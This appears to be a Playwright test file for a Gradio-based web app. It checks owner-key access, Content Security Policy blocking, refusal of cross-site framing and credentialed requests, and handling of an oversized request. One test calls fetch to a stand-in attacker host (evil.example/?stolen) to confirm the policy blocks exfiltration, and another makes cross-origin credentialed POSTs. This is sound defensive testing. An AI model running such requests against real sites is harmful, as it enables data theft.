"""What a browser lets the page do: its policy, the owner's key, and frames of other sites."""

from pathlib import Path

import pytest
from playwright.sync_api import expect

from dnd_engine.config import NO_GENERATOR
from dnd_engine.library import Library
from tests.browser.conftest import AT_REST, DESK, PHONE, Serve, Visit, Visits
from tests.ui.fake_engine import FakeEngine, handle_of
from ui.owner import Owner

pytestmark = pytest.mark.browser


def test_the_key_opens_the_owners_library_and_a_page_without_it_says_how(
    visits: Visits, serve: Serve, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    owner = Owner(Library(tmp_path / "library"))
    handle = handle_of()
    url = serve(handle, owner=owner)
    mine, strangers = visits(url, owner), visits(url)
    mine.page.locator("#dnd-example-sql").click()
    mine.synthesize()
    mine.page.locator("#dnd-take-open").click()
    mine.page.locator("#dnd-keep-now").click()
    expect(mine.page.locator("#dnd-keep-told")).to_contain_text("Kept in the library")
    assert len(owner.library.entries()) == 1
    for visit in (mine, strangers):
        visit.page.get_by_role("tab", name="Library").click()
    # What only the owner may press is offered to them alone, on every screen.
    expect(mine.page.locator(".dnd-models-open")).to_be_visible()
    for size in (DESK, PHONE):
        strangers.page.set_viewport_size(size)
        expect(strangers.page.locator(".dnd-chip-device")).to_contain_text("Ready")
        expect(strangers.page.locator(".dnd-models-open")).to_have_count(0)
    told = strangers.page.locator("#dnd-library-told")
    expect(told).to_contain_text("the address that the app printed")
    expect(mine.page.locator("#dnd-kept input")).to_have_count(1)
    expect(strangers.page.locator("#dnd-kept input")).to_have_count(0)
    monkeypatch.setattr("ui.engine_handle._loader", lambda config: lambda _: FakeEngine())
    mine.page.locator(".dnd-models-open").click()
    mine.page.get_by_label("imprint alone").first.check()
    expect(mine.page.locator("#dnd-models-told")).to_contain_text("No generator")
    mine.page.locator("#dnd-models-load").click()
    expect(mine.page.locator("#dnd-models")).to_be_hidden()
    expect(mine.page.locator("#dnd-load")).to_be_hidden()
    expect(mine.page.locator(".dnd-chip-device")).to_contain_text("Ready")
    assert handle.config.generator == NO_GENERATOR
    assert owner.key not in mine.page.url
    assert owner.key not in mine.page.content()
    assert owner.key not in mine.page.evaluate("document.cookie"), "scripts do not see it"


def test_a_page_older_than_the_apps_last_start_says_why_it_may_no_longer_change_the_models(
    visits: Visits, serve: Serve, tmp_path: Path
) -> None:
    owner = Owner(Library(tmp_path / "library"))
    visit = visits(serve(handle_of(), owner=owner), owner, locale="de-DE")
    sent: list[object] = []
    visit.page.on("request", lambda request: sent.append(request))  # it takes no builtin
    # Loading ends first: a head that it drew without the cookie would lack the button.
    visit.until_still(lambda: len(sent), 1)
    visit.page.context.clear_cookies()
    visit.page.locator(".dnd-models-open").click()
    expect(visit.page.locator("#dnd-load")).to_contain_text("Ohne ihren Schlüssel")
    expect(visit.page.locator(".dnd-models-open")).to_have_count(0)
    expect(visit.page.locator("#dnd-models")).to_be_hidden()


def test_the_page_works_under_its_policy_which_stops_requests_to_elsewhere(visits: Visits) -> None:
    """Every visit fails that logs an error; here one is provoked, to see that it would be."""
    visit = visits()
    visit.page.locator("#dnd-example-sql").click()
    visit.synthesize()
    visit.ask("What?")
    visit.idle()
    assert visit.console == []
    reached = visit.page.evaluate(
        "fetch('https://evil.example/?stolen').then(() => 'reached', () => 'stopped')"
    )
    assert reached == "stopped"
    visit.until(lambda: any("Content Security Policy" in said for said in visit.console))
    visit.console.clear()


def test_another_site_can_neither_frame_the_page_nor_call_it(visits: Visits, serve: Serve) -> None:
    engine = FakeEngine()
    there = serve(handle_of(engine))
    here = visits()  # another port of the same computer
    page = here.page
    page.route("**/trap", lambda route: route.fulfill(content_type="text/html", body="<p>trap</p>"))
    page.goto(f"{here.url}/trap")
    page.evaluate(
        """url => new Promise(done => {
            const frame = document.createElement("iframe");
            frame.onload = done;
            frame.src = url;
            document.body.append(frame);
        })""",
        there,
    )
    framed = page.frames[1]
    assert framed.locator(".dnd-canvas").count() == 0
    answers = page.evaluate(
        """async url => {
            const body = new FormData();
            body.append("files", new Blob(["x"]), "a.txt");
            const writes = {method: "POST", credentials: "include"};
            const said = [];
            for (const [path, options] of [
                ["/config", {credentials: "include"}],
                ["/gradio_api/upload", {...writes, body}],
                ["/gradio_api/upload", {...writes, body, mode: "no-cors"}],
            ]) said.push(await fetch(url + path, options).then(r => r.type, () => "stopped"));
            return said;
        }""",
        there,
    )
    # What no-cors sends arrives, and is refused there.
    assert answers[:2] == ["stopped", "stopped"]
    assert answers[2] in ("stopped", "opaque")
    here.console.clear()
    here.outside.clear()


_TOO_LONG = """() => {
    // An event outside of the queue that takes a text, with one that is too long.
    const { components, dependencies } = window.gradio_config;
    const texts = new Set(components.filter(({ type }) => type === "textbox").map(({ id }) => id));
    const { id, inputs } = dependencies.find(
        (event) => !event.queue && event.backend_fn && event.inputs.some((one) => texts.has(one)),
    );
    return fetch("./gradio_api/run/predict", {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({
            fn_index: id,
            data: inputs.map((input) => (texts.has(input) ? "x".repeat(100_000) : null)),
            session_hash: "another",
        }),
    }).then((answer) => answer.status);
}"""


def test_what_an_event_outside_of_the_queue_is_refused_with_is_shown(visit: Visit) -> None:
    page = visit.page
    refused = page.locator(".dnd-refused")
    # Its own visit comes first, which draws the foot of the page again.
    visit.until(lambda: bool(page.evaluate("localStorage.getItem('dnd-visit')")))
    page.evaluate(AT_REST)
    assert page.evaluate(_TOO_LONG) == 500
    expect(refused).to_contain_text("xpected")
    visit.check_accessible()
    visit.shot("refused", full=False)
    refused.get_by_role("button", name="Close").click()
    expect(refused).to_be_hidden()
    assert all("500" in said for said in visit.console)
    visit.console.clear()
